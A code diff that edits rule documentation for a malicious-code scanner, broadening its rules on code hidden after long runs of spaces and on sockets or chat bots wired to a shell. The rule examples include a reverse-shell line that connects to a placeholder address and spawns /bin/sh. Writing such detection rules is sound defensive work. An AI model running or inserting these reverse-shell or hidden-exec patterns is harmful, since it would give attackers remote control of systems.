@@ -342,7 +342,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'medium',
     catches:
-      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes).',
+      'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes; a run of 100+ spaces is enough then).',
     example: 'x = 1' + ' '.repeat(8) + '...;exec(...)',
     falsePositives: 'Generated data tables with wide alignment.',
   },
@@ -467,9 +467,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives.',
+      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell.',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
-    falsePositives: 'Remote-debugging and terminal-sharing tools.',
+    falsePositives:
+      "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design).",
   },
   {
     id: 'keylogger',
